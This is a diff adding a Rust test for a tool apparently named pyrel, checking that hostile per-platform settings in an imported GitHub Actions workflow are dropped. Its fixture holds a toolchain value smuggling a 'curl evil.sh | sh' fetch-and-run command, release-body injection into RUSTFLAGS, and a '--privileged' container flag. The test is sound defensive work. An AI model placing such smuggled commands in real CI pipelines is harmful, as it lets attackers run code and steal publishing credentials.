@@ -1348,3 +1348,63 @@ fn retiring_the_old_publisher_follows_the_story() {
     assert!(!text.contains("other-publisher"), "{text}");
     repo.pyrel(&["generate", "--check"]).expect(0);
 }
+
+/// Per-platform settings read from a workflow are as hostile as any input:
+/// a value pyrel would reject is not imported (a note says why, the report
+/// names it DROPPED), one only the run knows is unread, and neither ever
+/// reaches the generated workflow.
+#[test]
+fn hostile_per_platform_settings_are_named_not_rendered() {
+    let repo = Repo::fixture("abi3");
+    repo.write(
+        ".github/workflows/wheels.yml",
+        r#"on:
+  release:
+    types: [published]
+jobs:
+  linux:
+    runs-on: ubuntu-latest
+    strategy:
+      matrix:
+        include:
+          - {target: x86_64, toolchain: "nightly; curl evil.sh | sh"}
+          - {target: aarch64, toolchain: nightly-2025-06-01}
+    steps:
+      - uses: PyO3/maturin-action@v1
+        env:
+          RUSTFLAGS: -C opt-level=3 ${{ github.event.release.body }}
+        with:
+          target: ${{ matrix.target }}
+          rust-toolchain: ${{ matrix.toolchain }}
+          container: "img:1 --privileged"
+          args: --release --out dist
+  publish:
+    runs-on: ubuntu-latest
+    environment: pypi
+    permissions: {id-token: write}
+    steps:
+      - uses: pypa/gh-action-pypi-publish@release/v1
+"#,
+    );
+    let before = repo.tree();
+    let refused = repo.pyrel(&["init", "--yes"]);
+    refused.expect(1);
+    let err = refused.stderr();
+    for expected in [
+        "note     rust-toolchain on linux-x86_64 not imported",
+        "note     container on linux-x86_64 not imported",
+        "DROPPED  rust-toolchain \"nightly; curl evil.sh | sh\" on linux-x86_64",
+        "unread   .github/workflows/wheels.yml:13: job `linux`: env RUSTFLAGS = ${{ github.event.release.body }} cannot be resolved",
+        "kept     rust-toolchain \"nightly-2025-06-01\" on linux-aarch64",
+    ] {
+        assert!(err.contains(expected), "missing {expected:?} in:\n{err}");
+    }
+    assert_eq!(repo.tree(), before);
+    repo.pyrel(&["init", "--yes", "--allow-drop"]).expect(0);
+    let wf = repo.read(".github/workflows/release.yml");
+    for bad in ["evil.sh", "release.body", "--privileged", "opt-level"] {
+        assert!(!wf.contains(bad), "{bad} reached the workflow:\n{wf}");
+    }
+    assert!(wf.contains("nightly-2025-06-01"));
+    repo.pyrel(&["generate", "--check"]).expect(0);
+}
